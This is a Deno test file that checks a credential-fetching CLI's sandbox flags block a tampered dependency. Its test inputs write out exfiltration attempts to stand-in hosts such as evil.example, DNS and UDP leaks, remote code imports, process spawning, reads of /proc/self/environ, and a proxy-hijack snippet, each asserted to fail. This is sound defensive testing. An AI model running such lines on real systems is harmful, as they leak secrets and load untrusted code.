// What a package could do that was tampered with: how packages are fixed, and what the shipped flags stop.
import denoJson from "../../deno.json" with { type: "json" };
import testsJson from "../deno.json" with { type: "json" };
import assert from "node:assert/strict";
import { join } from "node:path";
import { ROOT, shippedFlags, underShippedFlags } from "../support/command.ts";
import { PACKAGES, SEE_A_KEY, shippedPackages } from "../support/packages.ts";
import { RecordingProxy } from "../support/recording_proxy.ts";
import { ALICE, Scenario } from "../support/scenario.ts";

const ALLOWED_VARIABLES = shippedFlags()
  .find((flag) => flag.startsWith("--allow-env="))?.slice(12).split(",") ?? [];

Deno.test("the shipped flags are exactly these; whoever adds one has to say so here", () => {
  assert.deepEqual(
    shippedFlags().map((flag) =>
      flag.replace(/^(--allow-(?:net|env)=).+/, "$1")
    ),
    [
      "--unstable-lazy-dynamic-imports",
      // Of speed alone: code is prepared as a whole, for the cache that keeps it.
      "--v8-flags=--no-lazy",
      "--cached-only",
      "--no-remote",
      "--no-prompt",
      "--allow-read",
      "--allow-write",
      "--allow-net=",
      "--allow-env=",
      "--ignore-env",
    ],
  );
  // Of keys in the environment, none but the identifier: that one is set.
  assert.deepEqual(
    ALLOWED_VARIABLES.filter((name) =>
      /SECRET|ACCESS_KEY|TOKEN|_PROFILE/.test(name)
    ),
    ["AWS_PROFILE", "AWS_DEFAULT_PROFILE", "AWS_ACCESS_KEY_ID"],
  );
});

/** One that is there on every system, as a word of code. */
const PROGRAM = JSON.stringify(Deno.execPath());

const STOPPED: readonly { readonly name: string; readonly code: string }[] = [
  {
    name: "fetch from another host",
    code: `await fetch("https://evil.example/?" + "key");`,
  },
  ...["evil.s3.amazonaws.com", "x.execute-api.us-east-1.amazonaws.com"]
    .map((host) => ({
      name: `fetch from ${host}`,
      code: `await fetch("https://${host}/?" + "key");`,
    })),
  {
    name: "connect to another address",
    code: `await Deno.connect({ hostname: "192.0.2.1", port: 443 });`,
  },
  {
    name: "use a host that only looks like AWS",
    code: `await fetch("https://amazonaws.com.evil.example/");`,
  },
  {
    name: "ask DNS",
    code:
      `await Deno.resolveDns("key.evil.example", "TXT", { nameServer: { ipAddr: "192.0.2.1", port: 53 } });`,
  },
  {
    name: "send a datagram",
    code:
      `const { createSocket } = await import("node:dgram"); createSocket("udp4").send("key", 53, "192.0.2.1", (error) => { if (error) throw error; });`,
  },
  {
    name: "start a process",
    code: `await new Deno.Command(${PROGRAM}).output();`,
  },
  {
    name: "start a process by Node's API",
    code:
      `const { spawnSync } = await import("node:child_process"); const { pid, status } = spawnSync(${PROGRAM}); if (pid === undefined && status === undefined) throw new Error("NotCapable, said by silence");`,
  },
  { name: "load a native library", code: `Deno.dlopen("libc.so.6", {});` },
  ...[
    "https://esm.sh/canary.js",
    "npm:canarykey@1.3.0",
    "jsr:@canary/key",
    "https://raw.githubusercontent.com/a/b/c.ts",
    "http://127.0.0.1:9/evil.ts",
  ]
    .map((specifier) => ({
      name: `load code from ${specifier}`,
      code: `await import(${JSON.stringify(specifier)});`,
    })),
  // Elsewhere, no file shows it.
  ...Deno.build.os === "linux"
    ? [{
      name: "read the environment of a process",
      code: `await Deno.readTextFile("/proc/self/environ");`,
    }]
    : [],
];

for (const { name, code } of STOPPED) {
  Deno.test(`the sandbox stops a dependency that would ${name}`, async () => {
    // A proxy needs no permission.
    await using proxy = new RecordingProxy();
    const { code: exit, stderr } = await underShippedFlags(code, {
      ...{ HTTP_PROXY: proxy.url, HTTPS_PROXY: proxy.url },
    });
    assert.notEqual(exit, 0);
    assert.match(
      stderr,
      /NotCapable|Requires \w+ access|not found in cache|cached-only|no-remote|frozen|lockfile/i,
    );
    assert.deepEqual(proxy.heard, []);
  });
}

Deno.test("the sandbox hides every variable that is not named", async () => {
  const hidden = ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "GITHUB_TOKEN"];
  const names = [...hidden, "HOME"];
  const { code, stdout } = await underShippedFlags(
    `console.log(${
      JSON.stringify(names)
    }.map((name) => Deno.env.get(name)).join());`,
    Object.fromEntries(names.map((name) => [name, "x"])),
  );
  assert.equal(code, 0);
  assert.equal(stdout, ",,,x\n");
});

/**
 * What the SDK's flavour for Node looks up while it is loaded, by name; the
 * sandbox says that they are unset. The bundle has the other flavour.
 */
const ASKED_BY_THE_SDK = [
  "AWS_ENABLE_DEFAULT_SOCKET_TIMEOUT_2026",
  "AWS_LAMBDA_BENCHMARK_MODE",
  "AWS_LAMBDA_NODEJS_NO_GLOBAL_AWSLAMBDA",
  "AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED",
];

/** Runs a command; what the runtime was asked to permit, by its kind. */
async function asksOf(
  scenario: Scenario,
  command: string,
  env: Readonly<Record<string, string>> = {},
): Promise<Readonly<Record<string, string[]>>> {
  const audit = join(scenario.home, "audit.jsonl");
  const { code, stderr } = await scenario.updsts(command, {
    ...env,
    DENO_AUDIT_PERMISSIONS: audit,
  });
  assert.equal(code, 0, stderr);
  const asks: Record<string, string[]> = {};
  for (const line of (await Deno.readTextFile(audit)).split("\n")) {
    // The last line may be cut off by the end of the process.
    if (!line.endsWith("}")) continue;
    const { permission, value = "" } = JSON.parse(line);
    (asks[permission] ??= []).push(value);
  }
  return asks;
}

Deno.test("get reads three files, and asks for no variable that is not named", async () => {
  await using scenario = await Scenario.start();
  const config = join(scenario.home, ".aws", "config");
  const bundle = join(scenario.home, "ca.pem");
  await Deno.writeTextFile(config, "[default]\nregion = eu-west-1\n");
  await Deno.copyFile(new URL("tests/fixtures/tls/ca.pem", ROOT), bundle);
  const { read = [], write = [], env = [], net = [] } = await asksOf(
    scenario,
    "get default -t CODE",
    {
      AWS_CA_BUNDLE: bundle,
      // What an SDK that is left alone would follow.
      ...{ AWS_PROFILE: "other", AWS_ACCESS_KEY_ID: "AKIAOTHER00000000000" },
      AWS_SECRET_ACCESS_KEY: "of the environment",
      AWS_SESSION_TOKEN: "of the environment",
      AWS_EC2_METADATA_SERVICE_ENDPOINT: "http://127.0.0.1:1",
      AWS_CONTAINER_CREDENTIALS_FULL_URI: "http://127.0.0.1:1",
    },
  );
  const [request] = scenario.sts.requests;
  assert.equal(request?.accessKeyId, ALICE.accessKeyId);
  assert.equal(request.headers["x-amz-security-token"], undefined);
  assert.equal(scenario.codesSent, 1);
  // Its own code, what is beside the old file (the new one, and a lock), and
  // the directories on the way to it, but not what is in them.
  const files = new Set(
    [...read, ...write].filter((path) =>
      !path.startsWith("file:") && !/[/\\]\.updsts[-.][^/\\]*$/.test(path) &&
      !scenario.path.startsWith(join(path, "/"))
    ),
  );
  assert.deepEqual([...files].sort(), [scenario.path, config, bundle].sort());

  const unnamed = new Set(
    env.filter((name) => !ALLOWED_VARIABLES.includes(name)),
  );
  const fromSources = Deno.env.get("UPDSTS_COMMAND") === undefined;
  assert.deepEqual([...unnamed].sort(), fromSources ? ASKED_BY_THE_SDK : []);
  assert(env.includes("AWS_REGION"));

  const { host } = new URL(scenario.sts.url);
  assert.deepEqual(net.filter((place) => !place.includes(host)), []);
});

Deno.test("the program asks for nothing that the sandbox denies", async () => {
  await using scenario = await Scenario.start();
  for (
    const command of [
      ...["get default -t CODE", "list", "doctor", "completion bash"],
      ...["--version", "mcp"],
    ]
  ) {
    const asked = Object.keys(await asksOf(scenario, command));
    assert(asked.includes("env"), command);
    const allowed = ["read", "write", "net", "env"];
    assert.deepEqual(asked.filter((kind) => !allowed.includes(kind)), []);
  }
});

Deno.test("a dependency cannot name a proxy of its own and hear what goes to AWS", async () => {
  // Once it could: who may read a variable may set it, and proxies need no permission.
  await using proxy = new RecordingProxy();
  const code = `
    for (const name of ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"]) {
      try { Deno.env.set(name, "${proxy.url}"); } catch { /* as good */ }
    }
    try { await fetch("http://127.0.0.1:9999/?key", { client: Deno.createHttpClient({}) }); } catch { /* nobody there */ }`;
  // Where nothing is given up, it is heard: so silence below means something.
  await underShippedFlags(code);
  assert.deepEqual(proxy.places, ["GET http://127.0.0.1:9999/?key HTTP/1.1"]);
  proxy.heard.length = 0;
  const sealing = new URL("src/machine/environment.ts", ROOT).href;
  await underShippedFlags(
    `import { takeProxyVariables } from ${JSON.stringify(sealing)};
    takeProxyVariables();${code}`,
  );
  assert.deepEqual(proxy.places, []);
  const main = await Deno.readTextFile(new URL("main.ts", ROOT));
  const body = main.replace(/^(?:\/\*[^]*?\*\/|\/\/.*|import [^]*?;|\s)*/, "");
  assert.match(
    body,
    /^const proxyVariables = takeProxyVariables\(\);/,
    "it must be called first",
  );
});

/** The packages of a lock file, and their hashes. */
async function readLock(path: string): Promise<Map<string, string>> {
  const { npm }: { npm: Record<string, { integrity?: string }> } = JSON.parse(
    await Deno.readTextFile(new URL(path, ROOT)),
  );
  return new Map(
    Object.entries(npm).map(([name, { integrity = "" }]) => [name, integrity]),
  );
}

Deno.test("every package is locked with a hash, and the locks are frozen", async () => {
  for (const path of ["deno.lock", "tests/deno.lock"]) {
    for (const [name, integrity] of await readLock(path)) {
      assert.match(integrity, /^sha512-/, name);
    }
  }
  assert.equal(denoJson.lock.frozen, true);
  assert.equal(testsJson.lock.frozen, true);
});

Deno.test("the tests use the very packages of the program", async () => {
  const tests = await readLock("tests/deno.lock");
  for (const [name, integrity] of await readLock("deno.lock")) {
    assert.equal(tests.get(name), integrity, name);
  }
  const imports = new Map(Object.entries(testsJson.imports));
  for (const [name, specifier] of Object.entries(denoJson.imports)) {
    assert.equal(imports.get(name), specifier);
  }
  assert.deepEqual(testsJson.compilerOptions, denoJson.compilerOptions);
});

Deno.test("every dependency is of npm, and of one exact version", () => {
  for (const specifier of Object.values(testsJson.imports)) {
    assert.match(specifier, /^npm:(?:@[\w.-]+\/)?[\w-]+@\d+\.\d+\.\d+$/);
  }
});

Deno.test("the program is made of exactly the packages that the documents count, and that SECURITY names", async () => {
  const names = (await shippedPackages()).map((name) =>
    name.replace(/@[^@]+$/, "")
  );
  assert.deepEqual(names, Object.values(PACKAGES).flat().sort());
  const { sts, mcp } = PACKAGES;
  const quoted = (names: readonly string[]) =>
    names.map((name) => `\`${name}\``).join(", ").replace(
      /, (?=[^,]*$)/,
      " and ",
    );
  const says = {
    "README.md": [
      `the ${names.length} packages`,
      `${sts.length} are AWS's own SDK`,
      `${SEE_A_KEY.length} of these see a key`,
    ],
    "docs/README.ja.md": [
      `パッケージは ${names.length} 個`,
      `うち ${sts.length} 個は AWS`,
      `その中の ${SEE_A_KEY.length} 個だけ`,
    ],
    "docs/SECURITY.md": [
      `contains ${names.length} packages`,
      `${sts.length} are AWS's own SDK for STS`,
      `${SEE_A_KEY.length} of these see a key or what STS returns: ${
        quoted(SEE_A_KEY)
      }`,
      `${mcp.length} are the MCP SDK with its schemas: ${quoted(mcp)}`,
      ...names.map((name) => `\`${name}\``),
    ],
  };
  for (const [path, words] of Object.entries(says)) {
    const told = (await Deno.readTextFile(new URL(path, ROOT)))
      .replace(/\s+/g, " ");
    for (const word of words) {
      assert(told.includes(word), `${path} must say: ${word}`);
    }
  }
});
